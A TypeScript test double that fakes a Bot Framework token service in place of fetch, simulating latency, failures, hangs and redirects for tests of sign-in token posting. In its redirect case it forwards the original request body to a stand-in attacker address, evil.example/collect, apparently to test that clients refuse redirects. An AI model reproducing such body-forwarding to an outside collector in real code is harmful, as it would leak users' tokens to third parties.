/** How the service responds to one post. */
export type ServiceAnswer = number | 'network-failure' | 'redirect' | 'hang';

/** One post that the service received. */
export interface ReceivedPost {
  at: number;
  url: URL;
  signInId: string | null;
  body: unknown;
  init: RequestInit;
  /** The response, and when it was sent. */
  answeredWith?: number;
  answeredAt?: number;
}

/** A bot token service in place of `fetch`, on fake time. A test sets its responses. */
export interface BotTokenServiceDouble {
  fetch: typeof fetch;
  posts: ReceivedPost[];
  /** Time until it responds, in milliseconds. */
  latency: number;
  /** The response, or a function that returns it for each card. */
  answer: ServiceAnswer | ((signInId: string, post: ReceivedPost) => ServiceAnswer);
  /** Number of posts for this card. */
  count(signInId: string): number;
}

export function createBotTokenServiceDouble(answer: BotTokenServiceDouble['answer'] = 200, latency = 50): BotTokenServiceDouble {
  const service: BotTokenServiceDouble = {
    answer,
    latency,
    posts: [],
    count: (signInId) => service.posts.filter((post) => post.signInId === signInId).length,
    fetch: async (input, init = {}) => {
      // As in the standard, nothing is sent after an abort.
      init.signal?.throwIfAborted();
      const url = new URL(input as string);
      const body: unknown = JSON.parse(init.body as string);
      const post: ReceivedPost = { at: Date.now(), url, signInId: url.searchParams.get('state'), body, init };
      service.posts.push(post);
      const answer = typeof service.answer === 'function' ? service.answer(post.signInId ?? '', post) : service.answer;
      await pause(answer === 'hang' ? 1e9 : service.latency, init.signal);
      // The message names the URL, as in browsers and Node.
      if (answer === 'network-failure') throw new TypeError(`fetch failed: ${url.href}`);
      if (answer === 'redirect') {
        if (init.redirect === 'error') throw new TypeError(`unexpected redirect at ${url.href}`);
        return service.fetch('https://evil.example/collect', init);
      }
      Object.assign(post, { answeredWith: answer, answeredAt: Date.now() });
      return new Response(null, { status: answer as number });
    },
  };
  return service;
}

function pause(ms: number, signal: AbortSignal | null | undefined): Promise<void> {
  return new Promise((resolve, reject) => {
    const timer = setTimeout(resolve, ms);
    signal?.addEventListener('abort', () => {
      clearTimeout(timer);
      reject(signal.reason as Error);
    });
    if (signal?.aborted) reject(signal.reason as Error);
  });
}

/** Returns a bot token URL in the form of Bot Framework. Default: valid for a minute. */
export function botTokenUrl(signInId: string, { host = 'token.botframework.com', lifetime = 60, protocol = 'https' } = {}): string {
  const expiry = Math.floor(Date.now() / 1000) + lifetime;
  return `${protocol}://${host}/api/sas/postToken?state=${signInId}&expiry=${expiry}&id=key-1&hmac=hmac-that-is-a-secret`;
}
